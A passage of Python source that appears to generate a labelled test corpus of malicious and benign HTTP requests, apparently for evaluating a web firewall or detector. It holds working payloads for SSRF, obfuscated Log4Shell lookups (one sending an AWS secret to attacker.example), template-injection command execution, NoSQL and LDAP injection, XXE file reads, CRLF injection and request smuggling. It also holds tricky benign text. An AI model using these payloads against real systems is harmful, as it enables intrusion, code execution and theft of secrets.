    A("http://trusted.example@169.254.169.254/latest/meta-data/", "userinfo confusion"),
    A("http://[0:0:0:0:0:ffff:7f00:1]:2375/containers/json", "expanded IPv4-mapped loopback, Docker API"),
    A("http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "in-cluster Kubernetes API"),
    A("http://①②⑦.⓪.⓪.①/", "enclosed-alphanumeric loopback"),
    A("http://10.0.0.1:10250/pods", "private kubelet"),
    A("netdoc:///etc/passwd", "Java netdoc scheme"),
]
SSRF_LOCS = ["json", "query", "form", "xml", "json", "query-full", "header-custom", "multipart"]

JNDI = [
    A("${jndi:ldap://attacker.example:1389/a}", "plain LDAP lookup"),
    A("${jndi:rmi://198.51.100.4:1099/Exploit}", "RMI"),
    A("${jndi:dns://attacker.example/x}", "DNS probe"),
    A("${${lower:j}ndi:${lower:l}dap://attacker.example/x}", "nested lower lookups"),
    A("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/a}", "default-value lookups"),
    A("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}", "env lookups with defaults"),
    A("${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/a}", "secret exfiltration in the host"),
    A("${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/}", "nested lookups in the scheme"),
    A("${${upper:j}ndi:ldaps://attacker.example/x}", "upper lookup, LDAPS"),
    A("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/a}", "unknown lookups with defaults"),
    A("${jndi:iiop://attacker.example/a}", "IIOP"),
    A("${jnd${123%25ff:-i}:ldap://attacker.example/a}", "junk lookup with default"),
    A("${jndi:ldap://attacker.example/a}", "URL-encoded in a query", "query-full"),
    A("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}", "date lookups"),
    A("${jndi:ldap://127.0.0.1#attacker.example:1389/a}", "CVE-2021-45046 allow-list bypass"),
    A("${jndi:ldap://attacker.example/a}", "\\u-escaped in JSON", "json-u"),
]
JNDI_LOCS = ["header-ua", "header-custom", "header-xff", "json", "header-referer", "cookie-raw", "query", "form"]

SSTI = [
    A("{{config.items()}}", "Jinja2 config disclosure"),
    A("{{''.__class__.__mro__[1].__subclasses__()}}", "Jinja2 class walk"),
    A("{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "Jinja2 RCE via request"),
    A("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "Jinja2 RCE via cycler"),
    A("{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "Jinja2 statement block"),
    A("{{lipsum.__globals__['os'].popen('cat /etc/passwd').read()}}", "Jinja2 RCE via lipsum"),
    A('{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}', "Twig 1.x RCE"),
    A("{{['id']|filter('system')}}", "Twig filter RCE"),
    A("{{['cat /etc/passwd']|map('system')|join}}", "Twig map RCE"),
    A('<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', "FreeMarker Execute"),
    A('${"freemarker.template.utility.Execute"?new()("id")}', "FreeMarker inline Execute"),
    A("${T(java.lang.Runtime).getRuntime().exec('id')}", "Spring EL"),
    A("#{T(java.lang.Runtime).getRuntime().exec('id')}", "Spring EL, deferred"),
    A("*{T(java.lang.System).getenv()}", "Thymeleaf selection expression"),
    A('__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x', "Thymeleaf preprocessing"),
    A('<%= system("id") %>', "ERB"),
    A("<%= `ls /` %>", "ERB backticks"),
    A("<%= File.open('/etc/passwd').read %>", "ERB file read"),
    A('#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")', "Velocity"),
    A('${self.module.cache.util.os.system("id")}', "Mako"),
    A("{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}", "Jinja2 attr filter with hex escapes"),
    A("{{7*'7'}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "Jinja2 via config", "json-u"),
]
SSTI_LOCS = ["json", "query", "form", "xml", "multipart", "json", "cookie", "header-custom"]

LDAPI = [
    A("*)(uid=*))(|(uid=*", "filter breakout"),
    A("admin)(&)", "always-true AND"),
    A("*)(|(objectClass=*)", "objectClass wildcard"),
    A("admin*)((|userPassword=*)", "attribute probe"),
    A("x)(|(cn=*)(mail=*", "OR injection"),
    A("*))%00", "null-byte truncation", "query-raw"),
    A("admin)(!(&(1=0", "negated false"),
    A("*)(objectClass=*))(&(objectClass=void", "close and reopen"),
    A("jdoe)(|(memberOf=cn=admins,ou=groups,dc=example,dc=com)", "group membership injection"),
    A("*(|(mail=*))", "wildcard OR"),
    A("%2a%29%28uid%3d%2a%29%29%28%7c%28uid%3d%2a", "URL-encoded breakout", "query-raw"),
    A("*)(userPassword=*)", "password attribute oracle", "form"),
]
LDAPI_LOCS = ["json", "query", "form", "xml"]

CRLF = [
    A("%0d%0aSet-Cookie:%20sessionid=attacker", "header injection in a redirect target", "query-raw"),
    A("%0d%0aLocation:%20http://attacker.example", "Location injection in a path", "path-raw"),
    A("/home\r\nSet-Cookie: sid=attacker", "CRLF in a JSON value used as a header", "json"),
    A("%E5%98%8A%E5%98%8DSet-Cookie:%20admin=true", "UTF-8 characters whose low bytes are CR and LF", "query-raw"),
    A("%0d%0a%0d%0a<script>alert(1)</script>", "response splitting into the body", "query-raw"),
    A("%0aLocation:%20//attacker.example", "LF only", "query-raw"),
    A("%u000d%u000aSet-Cookie:%20a=b", "%u-encoded CRLF", "query-raw"),
    A("%250d%250aSet-Cookie:%20a=b", "double-encoded CRLF", "query-raw"),
    A("user@example.com\r\nBcc: victims@attacker.example", "e-mail header injection", "json", "reply_to"),
    A("Your invoice\nBcc: list@attacker.example", "e-mail header injection with LF", "json", "subject"),
    A("en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html", "full response splitting", "query-raw"),
    A("report.csv\r\nContent-Type: text/html", "CRLF in a filename used in Content-Disposition", "form"),
]

NOSQL = []  # built as whole requests below


def nosql_cases():
    H = base_headers
    out = []

    def J(path, obj, note, escape=""):
        out.append((json_req("POST", path, obj, None) if not escape else
                    request("POST", path, H() + [["Content-Type", "application/json"]], json.dumps(obj).replace("$", "\\u0024")), note, "json"))

    def Q(path, qs, note, method="GET"):
        if method == "GET":
            out.append((request("GET", f"{path}?{qs}", H()), note, "query"))
        else:
            out.append((form_req("POST", path, None, raw=qs), note, "form"))

    J("/api/v1/auth/login", {"username": "admin", "password": {"$ne": None}}, "$ne on the password")
    J("/api/v1/auth/login", {"email": {"$gt": ""}, "password": {"$gt": ""}}, "$gt on both credentials")
    J("/api/v1/users/search", {"$where": "this.password.length > 0"}, "$where JavaScript")
    J("/api/v1/auth/login", {"username": {"$regex": "^adm"}, "password": {"$ne": "x"}}, "$regex user enumeration")
    J("/api/v1/orders/query", {"filter": {"$where": "sleep(5000) || true"}}, "$where time-based")
    J("/api/v1/auth/login", {"username": {"$in": ["admin", "root", "administrator"]}, "password": {"$exists": True}}, "$in and $exists")
    J("/api/v1/auth/login", {"user": "admin", "pass": {"$regex": ".*"}}, "$regex matching any password")
    J("/api/v1/reports", {"match": {"$expr": {"$function": {"body": "function(){ sleep(3000); return true; }", "args": [], "lang": "js"}}}}, "$function server-side JavaScript")
    J("/api/v1/auth/login", {"username": "admin", "password": {"$ne": None}}, "\\u0024-escaped operator", escape="$")
    J("/api/v1/password/reset", {"token": {"$ne": ""}, "new_password": "hunter22"}, "$ne on a reset token")
    J("/api/v1/accounts/lookup", {"email": {"$nin": [""]}, "$comment": "x"}, "$nin bypass")
    J("/api/v1/auth/login", {"username": "admin", "password": {"$not": {"$eq": "x"}}}, "$not $eq")
    Q("/api/v1/auth/login", "username=admin&password[$ne]=x", "$ne in query brackets", "POST")
    Q("/api/v1/users", "user[$gt]=&pass[$gt]=", "$gt in query brackets")
    Q("/api/v1/auth/login", "email[$regex]=.*&password[$ne]=1", "$regex and $ne in brackets", "POST")
    Q("/api/v1/orders", "filter[$where]=sleep(5000)", "$where in brackets")
    Q("/api/v1/auth/login", "username=admin&password[%24ne]=x", "encoded $ in brackets", "POST")
    Q("/api/v1/users", "login[$nin][]=x&login[$nin][]=y&password[$exists]=true", "$nin array in brackets")
    Q("/api/v1/search", "q=admin'%20||%20'1'=='1", "JavaScript-expression injection into $where")
    Q("/api/v1/users", "name=';%20return%20true;%20var%20x='", "string breakout inside $where JavaScript")
    Q("/api/v1/products", "where=%7B%22%24where%22%3A%22sleep(3000)%22%7D", "encoded JSON $where in a query value")
    return out


def xxe_cases():
    out = []
    X = lambda path, xml, note, ctype="application/xml": out.append((xml_req(path, xml, ctype=ctype), note, "xml"))
    X("/api/v1/orders/import", '<?xml version="1.0"?>\n<!DOCTYPE order [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<order><id>42</id><note>&x;</note></order>', "external entity file read")
    X("/api/v1/feeds/validate", '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/">]>\n<feed><title>&m;</title></feed>', "external entity SSRF")
    X("/api/v1/invoices", '<?xml version="1.0"?>\n<!DOCTYPE inv [<!ENTITY % d SYSTEM "http://attacker.example/x.dtd"> %d;]>\n<invoice><total>10</total></invoice>', "parameter entity, out-of-band DTD")
    X("/api/v1/catalog/sync", '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>\n<catalog>&lol4;</catalog>', "entity expansion (billion laughs)")
    X("/api/v1/orders/import", '<?xml version="1.0"?>\n<!DOCTYPE order PUBLIC "-//ACME//DTD Order//EN" "http://attacker.example/order.dtd">\n<order><id>1</id></order>', "external DTD by PUBLIC id")
    X("/api/v1/documents", '<doc xmlns:xi="http://www.w3.org/2001/XInclude"><title>Q3</title><xi:include parse="text" href="file:///etc/passwd"/></doc>', "XInclude file read")
    X("/soap/OrderService", '<?xml version="1.0"?>\n<!DOCTYPE soap:Envelope [<!ENTITY f SYSTEM "file:///c:/windows/win.ini">]>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetOrder><id>&f;</id></GetOrder></soap:Body></soap:Envelope>', "SOAP envelope with external entity", "text/xml; charset=utf-8")
    X("/api/v1/feeds/validate", '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY s SYSTEM "php://filter/convert.base64-encode/resource=/var/www/config.php">]>\n<r>&s;</r>', "PHP filter through an entity")
    X("/api/v1/orders/import", '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY e SYSTEM "expect://id">]>\n<r>&e;</r>', "expect:// entity")
    out.append((multipart_req("/api/v1/uploads/avatar", [("user_id", "4821"), ("avatar", "avatar.svg", "image/svg+xml",
               '<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>\n<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><text x="0" y="16">&x;</text></svg>')]),
                "SVG upload with an external entity", "multipart"))
    out.append((json_req("POST", "/api/v1/integrations/xml-import", {"format": "xml", "document": MARK}, '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'),
                "XML document with an external entity inside a JSON value", "json"))
    return out


def smuggling_cases():
    out = []
    body = "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"
    h = base_headers()
    S = lambda headers, note, b=body, path="/api/v1/cart": out.append(({"method": "POST", "path": path, "version": "HTTP/1.1", "headers": headers, "body": b}, note, "headers"))
    S(h + [["Content-Type", "application/json"], ["Content-Length", "4"], ["Transfer-Encoding", "chunked"]], "CL.TE: Content-Length with Transfer-Encoding")
    S(h + [["Content-Type", "application/json"], ["Transfer-Encoding", "xchunked"]], "obfuscated Transfer-Encoding value")
    S(h + [["Content-Type", "application/json"], ["Transfer-Encoding", "chunked, identity"]], "Transfer-Encoding list")
    S(h + [["Content-Type", "application/json"], ["Content-Length", "6"], ["Content-Length", "44"]], "duplicate Content-Length")
    S(h + [["Content-Type", "application/json"], ["Transfer-Encoding", "chunked"], ["Transfer-Encoding", "cow"]], "duplicate Transfer-Encoding")
    S(h + [["Content-Type", "application/json"], ["Content-Length", "0"], ["Transfer-Encoding", "\tchunked"]], "tab-prefixed Transfer-Encoding with Content-Length")
    S(h + [["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", str(len(("q=x&next=" + quote("GET /admin HTTP/1.1\r\nHost: internal")).encode()))]],
      "request line smuggled inside a form value", "q=x&next=" + quote("GET /admin HTTP/1.1\r\nHost: internal"))
    S(h + [["Content-Type", "application/json"], ["Content-Length", "5, 5"]], "list-valued Content-Length")
    return out


def scanner_cases():
    out = []
    uas = [
        ("sqlmap/1.8.3#stable (https://sqlmap.org)", "sqlmap"),
        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000042)", "Nikto"),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "Nuclei"),
        ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "masscan"),
        ("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "WPScan"),
        ("gobuster/3.6", "gobuster"),
        ("Fuzz Faster U Fool v2.1.0-dev", "ffuf"),
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "Nmap NSE"),
        ("DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "DirBuster"),
        ("Arachni/v1.6.1.3", "Arachni"),
        ("commix/v3.9-stable (https://commixproject.com)", "commix"),
    ]
    for i, (ua, note) in enumerate(uas):
        path = ["/api/v1/users?id=1", "/api/v1/.git/config", "/api/v1/products", "/api/v1/admin", "/wp-login.php", "/api/v1/status"][i % 6]
        out.append((request("GET", path, base_headers(ua=ua, auth=False)), note + " User-Agent", "header-ua"))
    out.append((request("GET", "/api/v1/products?id=1", base_headers() + [["Acunetix-Aspect", "enabled"], ["Acunetix-Aspect-Password", "082119f75623eb7abd7bf357698ff66c"]]), "Acunetix AcuSensor headers", "header-custom"))
    out.append((request("GET", "/api/v1/search?q=test", base_headers() + [["X-Scanner", "Netsparker"]]), "Netsparker header", "header-custom"))
    out.append((json_req("POST", "/api/v1/webhooks", {"url": "http://c59a2k0tq3d7k5vcb8p0ybq1wmx8ay3fo.oast.fun/hook"}), "out-of-band callback domain (interactsh)", "json"))
    return out


# ---------------------------------------------------------------------------------------------
# Benign traffic
# ---------------------------------------------------------------------------------------------

FIRST = ["Aoife", "Liam", "Sofia", "Mateo", "Chloé", "Jürgen", "Priya", "Kwame", "Yuki", "Olga", "Siobhán", "Zoë", "José", "Fatima", "Nguyễn", "Ingrid"]
LAST = ["O'Brien", "D'Angelo", "Smith", "O'Connor", "N'Diaye", "D'Souza", "Müller", "Ng", "Nuñez", "Ørsted", "Van der Berg", "McAllister", "Al-Hassan", "Null", "Select", "Drop"]
CITIES = [("Dublin", "IE", "D02 X285"), ("London", "GB", "SW1A 1AA"), ("Lyon", "FR", "69002"), ("Berlin", "DE", "10115"), ("Austin", "US", "78701"),
          ("Toronto", "CA", "M5V 2T6"), ("Osaka", "JP", "530-0001"), ("São Paulo", "BR", "01310-100"), ("Melbourne", "AU", "3000"), ("Cork", "IE", "T12 W8CX")]
STREETS = ["12 Rue de l'Église", "1600 Amphitheatre Pkwy", "Flat 3/2, 45 O'Connell St", "Apt #4B, 221B Baker St", "P.O. Box 1234",
           "c/o Smith & Sons Ltd., Unit 5-7 Main Rd.", "Hauptstraße 5, 3. OG", "350 5th Ave, Suite 3400", "Av. Paulista, 1578 - Bela Vista",
           "2-chōme-1-1 Umeda, Kita-ku", "Unit 12/48 Collins St", "The Old Mill, Drop Lane", "1 Union Square West", "42 Select Way"]
COMPANIES = ["AT&T", "Procter & Gamble", "Ben & Jerry's", "Toys \"R\" Us", "Yahoo!", "Union Pacific", "Select Comfort Corp.", "Drop Bear Tours Pty Ltd",
             "Script & Seal Studio", "O'Reilly Media", "Marks & Spencer", "L'Oréal", "Exec-Air Charter", "System 3 Logistics (UK) Ltd"]
DOMAINS = ["gmail.com", "outlook.com", "acme-corp.com", "example.org", "posteo.de", "icloud.com", "company.co.uk"]
SKUS = ["SKU-1042", "SKU-2203-BLK", "TSHIRT-M-RED", "MUG-11OZ", "CHAIR-OAK-01", "LAMP/DESK/2", "B07XJ8C8F5"]
STATUSES = ["pending", "paid", "shipped", "delivered", "cancelled", "refunded"]

PROSE = [
    "Please delete my account and all data associated with it. I no longer want to receive emails.",
    "I tried to select a different shipping option but the drop-down kept resetting to 'Standard'.",
    "Can you update the order? I'd like to drop the second item and add one more of the first.",
    "Where can I see my orders sorted by date? 'Order by newest' doesn't seem to work on the app.",
    "The union rep at our office said we could get a discount for group orders; is that true?",
    "Your onboarding script was great - the agent on chat (Sam) was very helpful!",
    "I got an alert on my phone that my card was charged twice. Please check order #10234.",
    "We're running the exec team offsite in May; can we book 12 rooms from the 14th to the 17th?",
    "The system says 'payment declined' but my bank says everything is fine.",
    "1 or 2 bedrooms? The listing says 1 but the photos clearly show 2.",
    "Select all that apply: shipping was late; item was damaged; wrong size.",
    "I'd rate it 5/5 -- would buy again!!",
    "Can't log in; it says my password is wrong (I've reset it twice now).",
    "Where do I find the 'insert' key on the compact keyboard? It isn't labelled.",
    "We want to update, not replace, the existing table - the oak one from your spring catalog.",
    "Drop me a line when it's back in stock :)",
    "The sleep mode on this laptop is excellent; the battery lasts all day.",
    "My kid's school uses Scratch to script little games - is this tablet compatible?",
    "The price went from $20 to $25 and then back to $20 -- what's going on?",
    "Please cancel order 4411 & refund to my original card; thanks!",
    "Available at select stores from June 1st; where is the nearest one to Dublin 8?",
    "I need to update my address: select 'home' instead of 'office' and delete the old one.",
    "Please don't drop the parcel at the door; leave it with the neighbour at no. 12.",
    "Blue and/or green, whatever is in stock. Size 10 (or 9.5 if 10 is sold out).",
    "Ordered from the Union Square store, where the staff know me, but it was shipped from Ohio?",
    "My export saved to C:\\Users\\jane\\Downloads\\orders.csv but the file is empty.",
    "Go to Settings > Account > Privacy to turn it off. That's what support told me last time.",
    "Rating: 4/5. Pros: fast, quiet; cons: the 'select' button is tiny & hard to hit.",
    "Great product. 10/10. Would recommend to anyone who's tired of cheap chargers that die after a week.",
    "The instructions say 'insert tab A into slot B' but there is no slot B in my box.",
    "Is there a way to merge (union) my two accounts? One is under my work e-mail.",
    "It's 50% off in the app but 30% off on the website -- which one is right?",
    "Delivery was on time, but the box was crushed. Item inside was OK though. 3 stars.",
    "Can I change the delivery window to 8-10am? I'm at work from 10:30.",
    "The 'execute payment' step hangs for ~30 seconds and then times out. Using Safari 17.",
    "Where's my refund?! It's been 14 days. Order ref: AB-2291-X.",
    "I love the new dark mode! One request: an option to sort by price, low -> high.",
    "Null pointer? No idea what that means, the app just showed that and closed.",
    "Script font on the wedding invitations looked gorgeous, thank you so much!",
    "Dear team, (1) the invoice is missing our VAT number; (2) the PO number is wrong. Regards, Siobhán",
    "Is the 'drop shipping' option available for orders under EUR 100?",
    "Our admin user can't see the 'Delete' button; we use role = 'manager'. Is that expected?",
    "Why does the union of two discounts not apply? I had both the student and the newsletter code.",
    "the chair wobbles :( tightened all screws, still wobbles. where can i get a replacement leg?",
    "This is the third time I'm writing. Please escalate to a manager. I want a call back at +353 87 123 4567.",
    "The alert sound is too loud and there's no setting for it. Otherwise good app.",
    "Size guide says M = 38-40\" chest; I'm 39\" and the M is tight. Maybe order up.",
    "Order #5512: item 2 of 3 is missing. Tracking shows 'delivered' but only one box arrived.",
    "You can drop off returns at any post office, or select 'pickup' and a courier will come by.",
    "Where exactly do I type the code \"SPRING-25\"? There's no promo box at checkout.",
    "Got a 'system error 500' when trying to pay. Tried 3 times, then it worked?",
    "I'd like to know whether the exec chair (model EX-200) comes with a 5-year warranty or 2.",
    "Hello! Could you tell me if the sofa fits through a 75 cm door? Thanks & have a nice day.",
    "Loved it. Bought one for my mum and one for my sister & her husband.",
    "The table of contents in the e-book is broken: chapters 3 & 4 both link to page 1.",
]

CODE_POSTS = [
    "How do I do a case-insensitive search in Postgres? I tried:\n\n```sql\nSELECT id, name FROM products WHERE name ILIKE '%chair%' ORDER BY name;\n```\n\nbut it's slow on 2M rows. Would a trigram index help?",
    "To drop the old column safely, run this in a migration:\n\n```sql\nALTER TABLE orders DROP COLUMN legacy_ref;\n```\n\nand deploy the code that stops reading it first.",
    "Put `<script src=\"https://cdn.jsdelivr.net/npm/chart.js\"></script>` in the page head and then call `new Chart(ctx, config)`.",
    "Quick health check: `curl -s https://api.example.com/v1/status | jq .` should print `{\"ok\": true}`.",
    "You can read the CSV with the standard library:\n\n```python\nimport csv\nwith open('data.csv', newline='') as f:\n    rows = list(csv.DictReader(f))\n```",
    "Counting last week's sign-ups: `SELECT COUNT(*) FROM users WHERE created_at > now() - interval '7 days';`",
    "Prefer `subprocess.run([\"ls\", \"-l\"], check=True)` over `os.system` - no shell, no quoting issues.",
    "In my Jinja template `{{ user.name }}` renders empty, but `{{ user['name'] }}` works. Why?",
    "My log4j2 pattern is `%d{ISO8601} [%t] %-5p %c{1} - %m%n` and timestamps come out in UTC. How do I switch to local time?",
    "The relative path `../assets/logo.png` in my CSS isn't resolving after the build. Webpack 5, file-loader.",
    "Run nginx with your folder mounted:\n\n```bash\ndocker run -p 8080:80 -v $(pwd)/site:/usr/share/nginx/html:ro nginx:alpine\n```",
    "Why does `<img src=\"cat.png\" alt=\"A cat\">` without width/height cause layout shift?",
    "React: `<button onClick={() => setOpen(true)}>Open</button>` re-renders the whole list. Should I use useCallback?",
    "The regex `^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$` rejects uppercase addresses - add the `i` flag.",
    "In the mongo shell: `db.orders.find({ total: { $gt: 100 } }).sort({ created_at: -1 }).limit(10)` - how do I do the same with the Node driver?",
    "Our LDAP filter `(&(objectClass=user)(mail=*@example.com))` returns nothing from AD; works in ldapsearch.",
    "On Windows `dir \"C:\\Program Files\\MyApp\"` shows the DLLs but the service still can't find them.",
    "Spring: `@Value(\"${app.timeout:30}\")` ignores my application.yml. Is the property name wrong?",
    "Use a parameterised query instead: `cursor.execute(\"SELECT * FROM users WHERE email = %s\", (email,))` - never format strings into SQL.",
    "Here's my .gitignore:\n```\nnode_modules/\n.env\ndist/\n*.log\n```\nbut .env still shows in `git status`.",
    "Bash loop over files: `for f in *.jpg; do convert \"$f\" -resize 50% \"small_$f\"; done`",
    "To escape HTML in JS use `el.textContent = text` rather than `el.innerHTML = text`.",
    "JOIN question: `SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.status = 'paid' UNION SELECT ...` - is UNION or UNION ALL faster here?",
    "In PowerShell, `Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1MB }` lists big files.",
    "Thymeleaf: `th:text=\"${user.name}\"` escapes, `th:utext` does not.",
    "ERB in Rails: `<%= link_to 'Profile', user_path(@user) %>` - why does it render the raw tag?",
    "How do I pass an env var into docker compose? `environment: - DB_URL=${DB_URL}` doesn't expand.",
    "Markdown tables:\n\n| col | type |\n|---|---|\n| id | uuid |\n| name | text |",
    "Escaping in YAML: `command: [\"sh\", \"-c\", \"echo $HOME && ls -la\"]` - do I need `$$HOME` in compose?",
    "Lodash `_.merge({}, defaults, userInput)` - I read it had a prototype pollution issue in old versions; which version fixed it?",
    "The SVG icon is `<svg viewBox=\"0 0 24 24\"><path d=\"M12 2L2 22h20z\"/></svg>`; how do I colour it with CSS?",
    "Kotlin: `val names = users.filter { it.active }.map { it.name }.sorted()` - is this lazy?",
    "Go: `if err != nil { return fmt.Errorf(\"open %s: %w\", path, err) }` - should I wrap or log?",
    "XPath `//book[price>35]/title` works in the browser but not in lxml. Namespaces?",
    "GraphQL fragments: `fragment UserParts on User { id name avatarUrl }` then `...UserParts` in the query.",
    "Rust: `let n: u32 = s.trim().parse().unwrap_or(0);` - is unwrap_or fine here?",
    "Excel formula: `=IF(A2>100, \"high\", \"low\")` works but `=VLOOKUP(B2, Sheet2!A:C, 3, FALSE)` returns #N/A.",
    "Cron syntax for every weekday at 07:30: `30 7 * * 1-5`. Is that UTC on your servers?",
    "The C# line `var q = db.Users.Where(u => u.Name.StartsWith(\"O'\")).ToList();` handles the apostrophe fine with EF.",
    "For the webhook signature: `hmac.new(secret, body, hashlib.sha256).hexdigest()` and compare with `hmac.compare_digest`.",
]

I18N = [
    "とても良い商品でした。配送も早かったです！", "质量很好，物流也很快，推荐购买。", "Отличный товар, «как на фото». Спасибо!",
    "منتج رائع، التوصيل كان سريعاً جداً", "बहुत अच्छा उत्पाद है, धन्यवाद!", "배송이 빨라서 좋았어요 👍", "Πολύ καλό προϊόν, το προτείνω ανεπιφύλακτα.",
    "מוצר מעולה, ממליץ בחום", "สินค้าดีมาก ส่งไว ประทับใจ", "Süper ürün, çok memnun kaldım 🙂", "Świetny produkt — polecam każdemu!",
    "Tuyệt vời, giao hàng nhanh chóng!", "Great gift 🎁🎉 my daughter loved it ❤️🔥", "Sehr gut, würde ich wieder kaufen. Größe passt.",
    "Très bien, mais la livraison a pris 5 jours ; dommage.", "Ótimo custo-benefício 👌 chegou antes do prazo", "Jätte bra! Snabb leverans 🚚💨",
]

LONG_DOCS = [
    """# Oak dining table, extendable (6-10 seats)

Made from solid European oak with an oiled finish, this table seats six and extends to ten with two
butterfly leaves stored under the top. Each leaf drops into place in seconds; no tools needed.

## Dimensions
- Closed: 180 x 95 cm, height 76 cm
- Open: 280 x 95 cm
- Weight: 62 kg (delivered in two boxes)

## Care
Wipe with a damp cloth and dry straight away. Re-oil once a year, or whenever water no longer beads
on the surface. Avoid placing hot pans directly on the top; use a trivet. Small marks can be
removed with fine (240 grit) sandpaper followed by a fresh coat of oil.

## Delivery and assembly
Two-person delivery to the room of your choice. Assembly takes about 30 minutes: attach the four
legs with the bolts supplied (an Allen key is included) and tighten them again after a week.
Select a delivery slot at checkout; you can change it up to 48 hours before delivery.

## Warranty
Five years on the frame and top. The warranty does not cover damage from misuse, from direct
sunlight (oak darkens naturally over time) or from drying out near a radiator.
""",
    """# Terms of sale (summary)

1. Orders. Placing an order is an offer to buy. We accept it when we send the dispatch e-mail;
   until then we may cancel an order, for example if an item is out of stock or mispriced.
2. Prices. All prices include VAT at the applicable rate. Delivery charges are shown at checkout
   before you pay. Promotional codes cannot be combined unless the promotion says otherwise.
3. Returns. You may return most items within 30 days of delivery for a full refund. Items must
   be unused and in their original packaging. Made-to-order items, personalised items and opened
   software cannot be returned unless faulty. To start a return, select the order in your account,
   choose "Return items" and print the label; drop the parcel off at any post office.
4. Refunds are made to the original payment method within 14 days of us receiving the return.
5. Faulty goods. If an item is faulty, contact us within 30 days for a refund, or at any time within
   the warranty period for a repair or replacement. This does not affect your statutory rights.
6. Liability. Nothing in these terms limits liability for death or personal injury caused by
   negligence, or for fraud. Otherwise our total liability is limited to the price of the order.
7. Governing law. These terms are governed by the laws of Ireland; the courts of Ireland have
   non-exclusive jurisdiction.
""",
    """# Release notes, app version 5.12

New
- Dark mode follows the system setting, or can be set by hand under Settings > Appearance.
- Order history can now be sorted by date, total or status, and filtered by year.
- You can select several items in your wishlist and move them to the cart in one go.

Improved
- Checkout is faster: we now load the payment options while you enter your address.
- Search understands brand names with apostrophes (O'Neill, L'Oréal) and accents.
- The delete button on saved addresses asks for confirmation first.

Fixed
- Fixed a crash when the union of two discount codes was larger than the order total.
- Fixed the "drop-off point" map on small screens.
- Fixed notifications arriving twice on some Android 14 devices.
- Fixed a rare issue where the app showed "system error" instead of the real message from the bank.

Known issues
- On iOS 16 the share sheet may open behind the keyboard. Tap outside the text field to close it.
""",
    """# Our sustainability report 2023 (abridged)

Where our wood comes from: every piece of oak, ash and walnut we used in 2023 came from forests
certified by FSC or PEFC. We visited 14 of our 22 sawmills in person and published the list of all
of them on our website. Select suppliers also share the GPS coordinates of the stands they harvest.

Packaging: we removed 38 tonnes of plastic from our packaging, replacing foam corners with moulded
pulp and bubble wrap with corrugated paper. 96% of our packaging by weight is now recyclable at
home. Where recycling is not available, customers can drop packaging back at any of our stores.

Transport: deliveries within cities are made with electric vans in Dublin, Cork and Galway; in 2024
we will add Belfast and Limerick. Our emissions from transport fell by 18% per order.

Repair and reuse: our repair service fixed 2,410 pieces of furniture, and our second-hand marketplace
found new homes for 5,870 items. Customers who sell back a table get store credit worth up to 40%
of the original price, depending on condition.

What we did not achieve: we aimed to power all our warehouses with renewable electricity by the end
of 2023; we reached 81%. The remaining sites will switch when their current contracts end in 2024.
""",
    """# How to choose a mattress

Firmness is personal, but a few rules of thumb help. Side sleepers usually prefer medium-soft
mattresses that let the shoulder and hip sink in; back sleepers medium-firm; front sleepers firm,
so that the hips do not sag. If you share a bed and disagree, a zip-and-link pair lets each side
choose its own firmness.

Materials: memory foam moulds to the body and isolates movement, but some people find it warm.
Pocket springs breathe better and feel bouncier. Hybrids combine a layer of foam with springs.
Latex is naturally springy and durable, and more expensive.

Size: measure the bed frame, not the old mattress, since old mattresses compress. Leave at least
